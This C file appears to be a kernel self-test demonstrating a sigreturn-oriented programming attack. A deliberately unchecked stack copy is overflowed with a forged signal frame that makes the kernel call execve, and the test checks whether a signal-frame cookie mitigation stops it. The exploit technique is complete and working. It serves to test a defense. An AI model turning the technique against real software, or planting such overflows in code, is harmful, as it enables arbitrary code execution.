// SPDX-License-Identifier: GPL-2.0
/*
 * srop-demo - sigreturn-oriented programming: a buffer on the stack overflows, the
 * return address behind it is made that of a sigreturn trampoline, and what follows it
 * on the stack a signal's frame that no kernel laid.  sigreturn loads every register
 * from it; these call execve.  No code is brought in, so NX does not help.  With
 * sigcookie=off (and on Linux) it works; Lectern else finds no cookie behind the frame
 * and ends the process.
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

#include <helpers.h>
#include <raw.h>

#define BUFFER	      64
#define SAVED	      8	  /* two registers, between buffer and return address */
#define RT_UCONTEXT   144 /* in the frame, which begins with the return address */
#define RT_SIGCONTEXT (RT_UCONTEXT + 20)
#define FRAME_SIZE    (RT_UCONTEXT + 116)
#define USER_CS	      0x73
#define USER_DS	      0x7b

/*
 * void victim(const void *message, size_t size): copies a message into a buffer
 * without asking whether there is room. In assembly, so that its stack is this:
 *
 *	%esp -> buffer (64) | edi | esi | return address | caller's stack …
 */
void victim(const void *message, size_t size);
__asm__(".text\n"
	"victim:\n"
	"	push %esi\n"
	"	push %edi\n"
	"	sub $64, %esp\n"
	"	mov 76(%esp), %esi\n"
	"	mov 80(%esp), %ecx\n"
	"	mov %esp, %edi\n"
	"	rep movsb\n"
	"	add $64, %esp\n"
	"	pop %edi\n"
	"	pop %esi\n"
	"	ret\n");

/* The trampoline is `mov $173, %eax; int $0x80`. */
#define INT80_AT ((unsigned)raw_rt_sigreturn + 5)

static unsigned char message[BUFFER + SAVED + FRAME_SIZE];
static char stack[4096];

static void fail(const char *what)
{
	printf("srop-demo: %s: %s\n", what, strerror(errno));
	exit(EXIT_FAILURE);
}

/* The frame that an attacker would send. */
static void forge(unsigned char *frame, char *path, char **argv)
{
	unsigned *gregs = (unsigned *)(frame + RT_SIGCONTEXT);

	*(unsigned *)frame = (unsigned)raw_rt_sigreturn;
	gregs[REG_DS] = gregs[REG_ES] = gregs[REG_SS] = USER_DS;
	gregs[REG_CS] = USER_CS;
	gregs[REG_EIP] = INT80_AT;
	gregs[REG_EAX] = SYS_execve;
	gregs[REG_EBX] = (unsigned)path;
	gregs[REG_ECX] = (unsigned)argv;
	gregs[REG_EDX] = 0;
	gregs[REG_ESP] = (unsigned)stack + sizeof(stack);
	gregs[REG_EFL] = 0x202;
}

static void explain(const unsigned char *frame)
{
	const unsigned *gregs = (const unsigned *)(frame + RT_SIGCONTEXT);

	printf("2. The attacker's message has %zu bytes:\n", sizeof(message));
	printf("     0 to %d\tanything: buffer and saved registers\n",
	       BUFFER + SAVED - 1);
	printf("     %d\t%#010x: over the return address, a trampoline,\n"
	       "\t\t\t\"mov $173, %%eax; int $0x80\": rt_sigreturn\n",
	       BUFFER + SAVED, *(const unsigned *)frame);
	printf("     then\ta signal's frame, as if a handler had been called:\n");
	printf("\t\teip %#010x\tan \"int $0x80\"\n", gregs[REG_EIP]);
	printf("\t\teax %u\t\tthe number of execve\n", gregs[REG_EAX]);
	printf("\t\tebx %#010x\t\"%s\"\n", gregs[REG_EBX],
	       (const char *)gregs[REG_EBX]);
	printf("\t\tecx %#010x\tits arguments\n", gregs[REG_ECX]);
}

/* The last line of the kernel's log that names SROP. */
static void show_log(void)
{
	static char log[1 << 17];
	int n = klogctl(3, log, sizeof(log) - 1);
	char *line, *last = NULL;

	if (n < 0)
		return;
	log[n] = '\0';
	for (line = strstr(log, "SROP"); line; line = strstr(line + 1, "SROP"))
		last = line;
	if (last)
		printf("   The kernel's log says:\n   %.*s\n",
		       (int)strcspn(last, "\n"), last);
}

/* Returns the wait status of the process that is attacked. */
static int attack(void)
{
	pid_t pid;
	int status;

	printf("3. A child copies the message into its buffer, and returns:\n");
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		fail("fork");
	if (pid == 0) {
		victim(message, sizeof(message));
		_exit(EXIT_FAILURE);
	}
	if (waitpid(pid, &status, 0) != pid)
		fail("waitpid");
	return status;
}

static bool judge(int status)
{
	bool protected = on_lectern() && !booted_with("sigcookie=off");

	if (status == 0) {
		printf("Verdict: the attack worked: the kernel took a frame that it never laid%s.\n",
		       on_lectern() ? " (sigcookie=off)" : "");
		return !protected;
	}
	printf("   The child was ended by signal %d (%s).\n", WTERMSIG(status),
	       strsignal(WTERMSIG(status)));
	show_log();
	printf("Verdict: the attack failed: the frame has no cookie, so the kernel knew that it is forged.\n");
	return protected && WTERMSIG(status) == SIGSEGV;
}

int main(int argc, char **argv)
{
	static char path[256], *args[] = { "srop-demo", "--prize", NULL };
	unsigned char *frame = message + BUFFER + SAVED;

	if (argc > 1) {
		printf("   child:  I am a program that nobody meant to run: the attacker's.\n");
		return EXIT_SUCCESS;
	}
	if (readlink("/proc/self/exe", path, sizeof(path) - 1) < 0)
		fail("/proc/self/exe");
	printf("1. A function has a buffer of %d bytes on its stack and copies a message\n"
	       "   into it without looking at the length.\n",
	       BUFFER);
	forge(frame, path, args);
	explain(frame);
	return judge(attack()) ? EXIT_SUCCESS : EXIT_FAILURE;
}
